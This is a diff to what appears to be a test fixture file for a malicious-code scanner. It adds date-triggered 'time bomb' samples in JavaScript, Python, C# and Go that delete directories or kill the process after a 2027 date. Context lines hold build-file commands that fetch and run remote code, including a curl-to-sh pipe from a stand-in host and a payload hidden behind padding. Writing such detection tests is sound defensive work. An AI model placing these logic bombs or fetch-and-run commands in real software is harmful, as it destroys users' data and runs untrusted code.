@@ -809,6 +809,15 @@ code("unasked-good/a.targets", TASK % 'var t = System.IO.File.ReadAllText(File);
 code("unasked-long/a.csproj", "<Project><Exec Command=\"" + ": ; " * 600 + FETCH + "\" /></Project>\n", "unscanned", "code.limit")
 code("unasked-good/list.csproj", "<Project><None Include=\"" + "a/b.txt;" * 600 + "\" /></Project>\n", "clean")
 code("unasked-good/a.csproj", "<Project>\n <Target Name=\"a\"><Exec Command=\"powershell -f &quot;$(ProjectDir)s.ps1&quot;\" /></Target>\n</Project>\n", "clean")
+# --- what waits for a day
+pair("day.js", "code.waits-for-a-day", "suspicious", "const fs = require('fs');\nif (Date.now() > Date.UTC(2027, 3, 1)) {\n  fs.rmSync(dir, { recursive: true });\n}\n",
+     "const fs = require('fs');\nif (Date.now() - fs.statSync(p).mtimeMs > AGE) {\n  fs.rmSync(p);\n}\nif (Date.now() > Date.UTC(2027, 3, 1)) {\n  console.warn('old');\n}\n")
+pair("day.py", "code.waits-for-a-day", "suspicious", "import datetime, shutil\ndef due():\n    now = datetime.datetime.utcnow()\n    return now.year > 2026 and now.month == 4\ndef tick(d):\n    if due():\n        shutil.rmtree(d)\n",
+     "import datetime, shutil\ndef due():\n    now = datetime.datetime.utcnow()\n    return now.weekday() == 6\ndef tick(d):\n    if due():\n        shutil.rmtree(d)\n    if datetime.date.today() > datetime.date(2027, 1, 1):\n        print('old')\n    shutil.rmtree(d)\n")
+pair("day.cs", "code.waits-for-a-day", "suspicious", "class A {\n  int F() {\n    if (DateTime.Now > new DateTime(2027, 8, 8))\n      Process.GetCurrentProcess().Kill();\n    return 0;\n  }\n}\n",
+     "class A {\n  int F() {\n    if (DateTime.Now > new DateTime(2027, 8, 8))\n      Log.Warn(1);\n    Process.GetCurrentProcess().Kill();\n    return 0;\n  }\n}\n")
+pair("day.go", "code.waits-for-a-day", "suspicious", "package a\nfunc f() {\n\tif time.Now().After(time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)) {\n\t\tos.RemoveAll(d)\n\t}\n}\n",
+     "package a\nfunc f() {\n\tif time.Now().After(deadline) {\n\t\tos.RemoveAll(d)\n\t}\n}\n")
 # --- builds by CMake, autoconf and Gradle
 code("cmake-shell/CMakeLists.txt", f"set(C \"{FETCH}\")\nexecute_process(COMMAND ${{BASH_PROGRAM}} -c \"${{C}}\" OUTPUT_QUIET)\n", "suspicious", "code.command-fetches")
 code("cmake-pipe/a.cmake", "execute_process(COMMAND curl -fsSL https://x.example/h COMMAND sh ERROR_QUIET)\n", "suspicious", "code.command-fetches")
